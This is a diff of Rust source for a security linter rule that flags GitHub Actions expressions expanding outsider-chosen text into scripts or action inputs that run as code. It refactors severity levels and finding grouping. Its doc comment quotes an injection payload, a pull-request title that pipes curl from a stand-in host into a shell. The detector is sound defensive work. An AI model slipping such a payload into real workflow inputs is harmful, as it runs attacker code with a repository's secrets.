@@ -1,12 +1,13 @@
-use lockgate_evidence::{Confidence, Finding, Span, rule};
-use lockgate_pipelines::expression::Template;
-use lockgate_pipelines::model::{Body, Run, Uses};
+use lockgate_evidence::{Finding, Span, rule};
+use lockgate_pipelines::expression::{ContextPath, Expr, Template};
+use lockgate_pipelines::model::{Body, Run, Step, Uses};
 use lockgate_pipelines::yaml::Text;
 
 use crate::context::Context;
-use crate::data::code_inputs;
-use crate::flow::{Flow, Taint, severity};
-use crate::rewrite;
+use crate::data::code_inputs::{self, Language};
+use crate::edits::rewrite::{self, Rewritten};
+use crate::facts::spots::listed;
+use crate::flow::{Flow, Reach, Taint};
 use crate::tree::Place;
 
 rule! {
@@ -15,17 +16,27 @@ rule! {
     /// An expression `${{ … }}` that puts text an outsider chooses into a script, or into an input that an action runs as
     /// code. The value is followed back through `env`, inputs, matrices, outputs of steps and jobs, `GITHUB_ENV` and
     /// `GITHUB_OUTPUT`, composite actions and called workflows of the same repository; the finding shows each place it
-    /// passed. Values that can only be a number, a commit id, a flag or a fixed word are left out, and so are expressions
-    /// of which only a comparison's result is used.
+    /// passed. What people with rights of their own fill in is told once for each script. Values that can only be a number, a
+    /// commit id, a flag or a fixed word are left out, and so are expressions of which only a comparison's result is used, and
+    /// JSON that stands as a literal in JavaScript.
     ///
     /// # Why it matters
     ///
     /// The platform expands expressions before the shell reads the script, so a title such as `"; curl evil | sh #` becomes a
     /// command. That is how outsiders ran code with the repository's secrets in the pipelines of `ultralytics` (December
-    /// 2024, a branch name) and `nx` (August 2025, the title of a pull request). The severity is critical where anyone can
-    /// start the workflow with the repository's rights, medium where only runs of fork pull requests without secrets are
-    /// affected, low where the value comes from someone with rights of their own, and info where it is the output of an
-    /// action whose inside cannot be seen. The confidence falls where the path crosses something outside the repository.
+    /// 2024, a branch name) and `nx` (August 2025, the title of a pull request). The severity says what an outsider can do:
+    ///
+    /// - critical: he starts the run, and it has secrets or a token that can write;
+    /// - high: it has neither, but shares caches with the default branch; somebody must first set a label; or it is an
+    ///   action or called workflow whose callers are not known;
+    /// - medium: somebody must first merge, approve or ask for the run; the text comes from commits that were accepted; or
+    ///   only runs of his own pull request are affected, which have no secrets;
+    /// - low: a condition lets only members or branches of the same repository through, or the value comes from someone
+    ///   with rights of his own, or no event that starts an action brings one; info: it is the output
+    ///   of an action whose inside cannot be seen.
+    ///
+    /// Triggers, conditions and rights are those of the workflows in the tree that lead there. The confidence falls where
+    /// the path crosses something outside of it.
     ///
     /// # Bad
     ///
@@ -81,14 +92,17 @@ fn script(cx: &Context<'_>, place: Place<'_>, run: &Run, out: &mut Vec<Finding>)
     }
     let templates: Vec<_> = tainted.iter().map(|(template, _)| *template).collect();
     let fix = rewrite::script(place, run, &templates);
-    for (template, taint) in tainted {
-        let mut finding = finding(cx, place, &run.script, template.span, &taint, "the script");
-        finding.fix = fix
-            .as_ref()
-            .filter(|(_, done)| done.contains(&template.span))
-            .map(|(fix, _)| fix.clone());
-        out.push(finding);
-    }
+    report(
+        cx,
+        place,
+        &Sink {
+            text: &run.script,
+            into: "the script",
+            fix,
+        },
+        tainted,
+        out,
+    );
 }
 
 fn inputs(cx: &Context<'_>, place: Place<'_>, uses: &Uses, out: &mut Vec<Finding>) {
@@ -102,19 +116,139 @@ fn inputs(cx: &Context<'_>, place: Place<'_>, uses: &Uses, out: &mut Vec<Finding
         let Some(language) = code_inputs::language(&action, binding.key.value()) else {
             continue;
         };
-        let tainted = tainted(cx, place, &binding.value);
+        let mut tainted = tainted(cx, place, &binding.value);
+        tainted.retain(|(template, _)| {
+            language != Language::JavaScript || !is_literal(place, &binding.value, template)
+        });
         let templates: Vec<_> = tainted.iter().map(|(template, _)| *template).collect();
         let fix = rewrite::input(place, uses, &binding.value, language, &templates);
-        for (template, taint) in tainted {
-            let into = format!("the input `{}` that `{action}` runs as code", binding.key);
-            let mut finding = finding(cx, place, &binding.value, template.span, &taint, &into);
-            finding.fix = fix
-                .as_ref()
-                .filter(|(_, done)| done.contains(&template.span))
-                .map(|(fix, _)| fix.clone());
-            out.push(finding);
+        let into = format!("the input `{}` that `{action}` runs as code", binding.key);
+        report(
+            cx,
+            place,
+            &Sink {
+                text: &binding.value,
+                into: &into,
+                fix,
+            },
+            tainted,
+            out,
+        );
+    }
+}
+
+/// A text that is run.
+struct Sink<'a> {
+    text: &'a Text,
+    /// The same in words.
+    into: &'a str,
+    fix: Rewritten,
+}
+
+/// What people with rights of their own fill in is told once for each text, what outsiders do at each place.
+fn report(
+    cx: &Context<'_>,
+    place: Place<'_>,
+    sink: &Sink<'_>,
+    tainted: Vec<(&Template, Taint)>,
+    out: &mut Vec<Finding>,
+) {
+    let mut groups: Vec<Group> = Vec::new();
+    for (template, taint) in tainted {
+        let reach = Reach::of(cx.tree, place, &taint);
+        let span = sink.text.locate(template.span);
+        let fix = sink
+            .fix
+            .as_ref()
+            .filter(|(_, done)| done.contains(&template.span));
+        let fix = fix.map(|(fix, _)| fix.clone());
+        let words = reach.words();
+        let same = |group: &&mut Group| {
+            group.words == words && group.finding.fix.is_some() == fix.is_some()
+        };
+        if let Some(group) = groups
+            .iter_mut()
+            .find(same)
+            .filter(|_| !taint.is_attacker())
+        {
+            group.also.push(span);
+            if !group.origins.contains(&taint.origin) {
+                group.origins.push(taint.origin);
+            }
+        } else {
+            let mut finding = reach.explain(&taint, cx.finding(&RULE, span, ""));
+            finding.fix = fix;
+            groups.push(Group {
+                words,
+                finding,
+                origins: vec![taint.origin],
+                also: Vec::new(),
+            });
         }
     }
+    out.extend(groups.into_iter().map(|group| group.told(cx, sink.into)));
+}
+
+/// One finding and the values it speaks of.
+struct Group {
+    words: String,
+    finding: Finding,
+    origins: Vec<String>,
+    also: Vec<Span>,
+}
+
+impl Group {
+    fn told(self, cx: &Context<'_>, into: &str) -> Finding {
+        let names: Vec<&str> = self.origins.iter().map(String::as_str).collect();
+        let are = if names.len() == 1 { "is" } else { "are" };
+        let mut finding = self.finding;
+        finding.message = format!(
+            "{} {are} expanded into {into}: {}",
+            listed(&names),
+            self.words
+        );
+        let also = self.also.into_iter();
+        also.fold(finding, |finding, span| {
+            finding.related(cx.file.source(), span, "here as well")
+        })
+    }
+}
+
+/// True where JSON stands as a literal of JavaScript, outside of quotes: it cannot be anything but data.
+fn is_literal(place: Place<'_>, text: &Text, template: &Template) -> bool {
+    let Ok(expr) = &template.expression else {
+        return false;
+    };
+    let before = &text.value()[..template.span.start];
+    let line = before.rsplit('\n').next().unwrap_or_default();
+    let open = |text: &str, quote: char| text.matches(quote).count() % 2 == 1;
+    let quoted = open(line, '"') || open(line, '\'') || open(before, '`');
+    !quoted && is_json(place, expr)
+}
+
+/// `toJSON(…)`, or the lists of files of `dorny/paths-filter` where they are asked for as JSON.
+fn is_json(place: Place<'_>, expr: &Expr) -> bool {
+    if expr
+        .ungrouped()
+        .call()
+        .is_some_and(|(name, _)| name == "tojson")
+    {
+        return true;
+    }
+    let path = expr.ungrouped().path();
+    let Some([root, id, _, _]) = path.as_ref().map(ContextPath::segments) else {
+        return false;
+    };
+    let mut steps = place.job.steps.iter();
+    let step = steps.find(|step| {
+        step.id
+            .as_ref()
+            .is_some_and(|own| own.value().eq_ignore_ascii_case(id))
+    });
+    root == "steps"
+        && step.and_then(Step::uses).is_some_and(|uses| {
+            uses.is("dorny/paths-filter") && uses.input("list-files") == Some("json")
+        })
 }
 
 fn tainted<'t>(cx: &Context<'_>, place: Place<'_>, text: &'t Text) -> Vec<(&'t Template, Taint)> {
@@ -128,37 +262,4 @@ fn tainted<'t>(cx: &Context<'_>, place: Place<'_>, text: &'t Text) -> Vec<(&'t T
             ))
         })
         .collect()
-}
-
-fn finding(
-    cx: &Context<'_>,
-    place: Place<'_>,
-    text: &Text,
-    span: Span,
-    taint: &Taint,
-    into: &str,
-) -> Finding {
-    let who = match (taint.is_attacker(), taint.confidence) {
-        (true, _) => "an outsider can run commands here",
-        (false, Confidence::Low) => "who decides it cannot be told",
-        (false, _) => "whoever decides it can run commands here",
-    };
-    let message = format!("`{}` is expanded into {into}: {who}", taint.origin);
-    let mut finding = cx.finding(&RULE, text.locate(span), message);
-    finding = taint
-        .explain(finding)
-        .severity(severity(place, taint))
-        .confidence(taint.confidence);
-    if let Some(trigger) = place
-        .pipeline
-        .exposed_trigger()
-        .filter(|_| taint.is_attacker())
-    {
-        let note = format!(
-            "`{}` runs this with the repository's rights for anyone",
-            trigger.name
-        );
-        finding = finding.related(&place.pipeline.source, trigger.name.span(), note);
-    }
-    finding
 }
